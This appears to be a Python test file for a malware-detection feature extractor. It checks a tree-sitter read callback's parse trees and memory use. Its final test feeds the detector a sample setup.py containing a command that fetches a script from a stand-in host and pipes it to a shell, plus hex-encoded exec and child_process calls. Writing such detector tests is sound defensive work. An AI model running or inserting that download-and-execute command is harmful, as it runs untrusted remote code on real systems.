"""The engines' read callback (`malseq.features.budget.source_reader`): the same tree as a parse of
the bytes, and nothing kept once the parse and its tree are gone (tree-sitter 0.26.1's binding keeps
every object a read callback returns: slices of the file were kept for the life of the process)."""

from __future__ import annotations

import gc
import tracemalloc
from collections.abc import Iterator

import pytest
import tree_sitter_javascript
import tree_sitter_python
from tree_sitter import Language, Node, Parser, Point, Range

from malseq.features import budget
from malseq.features.budget import source_reader
from malseq.features.javascript import analyse_javascript_source
from malseq.features.python import analyse_python_text

PY = Language(tree_sitter_python.language())
JS = Language(tree_sitter_javascript.language())

# multi-byte characters fall across chunk boundaries (2-, 3- and 4-byte UTF-8 at odd offsets)
PY_SOURCE = "".join(f"def f{i}(x='é{i}€𝄞'):\n    return os.system('ü' * {i}, key=x)\n"
                    for i in range(400)).encode()
JS_SOURCE = "".join(f"function f{i}(x) {{ return require('child_process').exec('é{i}€𝄞' + x); }}\n"
                    for i in range(400)).encode()
# an odd chunk size, so that chunk boundaries fall inside multi-byte characters often
SMALL_CHUNK = 997


@pytest.fixture
def small_chunks(monkeypatch: pytest.MonkeyPatch) -> None:
    source_reader(b"")  # this thread's buffer exists at full size before the chunk size is lowered
    monkeypatch.setattr(budget, "READ_CHUNK_BYTES", SMALL_CHUNK)


def _nodes(node: Node) -> Iterator[tuple[str, int, int, tuple[int, int], bool]]:
    cursor = node.walk()
    while True:
        n = cursor.node
        assert n is not None
        yield n.type, n.start_byte, n.end_byte, (n.start_point.row, n.start_point.column), n.has_error
        if cursor.goto_first_child():
            continue
        while not cursor.goto_next_sibling():
            if not cursor.goto_parent():
                return


@pytest.mark.parametrize(("language", "source"), [(PY, PY_SOURCE), (JS, JS_SOURCE)])
@pytest.mark.usefixtures("small_chunks")
def test_the_tree_is_the_tree_of_the_bytes(language: Language, source: bytes) -> None:
    assert len(source) > 20 * SMALL_CHUNK
    parser = Parser(language)
    expected = list(_nodes(parser.parse(source).root_node))
    tree = parser.parse(source_reader(source), progress_callback=lambda *_: False)
    assert list(_nodes(tree.root_node)) == expected
    # with included ranges (the head and tail of a big file) too
    middle = len(source) // 2
    head_end = source.rindex(b"\n", 0, middle // 2) + 1
    tail_start = source.index(b"\n", middle) + 1

    def point(offset: int) -> Point:
        line_start = source.rfind(b"\n", 0, offset) + 1
        return Point(source.count(b"\n", 0, offset), offset - line_start)

    ranges = [Range(Point(0, 0), point(head_end), 0, head_end),
              Range(point(tail_start), point(len(source)), tail_start, len(source))]
    parser.included_ranges = ranges
    expected = list(_nodes(parser.parse(source).root_node))
    assert list(_nodes(parser.parse(source_reader(source)).root_node)) == expected


def test_a_parse_keeps_nothing_of_the_file() -> None:
    source = PY_SOURCE * 3  # two chunks and a bit
    assert len(source) > budget.READ_CHUNK_BYTES
    parser = Parser(PY)
    parser.parse(source_reader(source))  # this thread's buffer exists before the count starts
    gc.collect()
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        for _ in range(3):
            tree = parser.parse(source_reader(source), progress_callback=lambda *_: False)
            assert not tree.root_node.has_error
            del tree
        gc.collect()
        kept = tracemalloc.get_traced_memory()[0] - before
    finally:
        tracemalloc.stop()
    # slices of the file (the callback before) kept about 1.7 times the file per parse, 5x in all here;
    # now a few small views of the reusable buffer per parse remain
    assert kept < len(source) // 4, (kept, len(source))


def test_the_engines_read_keyword_arguments_and_names_from_the_source() -> None:
    """The Python engine slices its source where it read Node.text (which a tree parsed through the
    callback cannot give): keyword names, `bytes.fromhex`, `.decode` and setup() metadata."""
    source = b"""import os, subprocess
subprocess.run("curl http://x.example/a | sh", shell=True)
exec(bytes.fromhex("7072696e7428312b3129").decode())
"""
    events = {e.behaviour for e in analyse_python_text("setup.py", source).events}
    print(sorted(events))
    assert {"run_command", "eval_code", "encoding_call"} <= events
    js = {b for b, _, _ in analyse_javascript_source("require('child_process').exec('id')", "index.js")}
    print(sorted(js))
    assert "run_command" in js
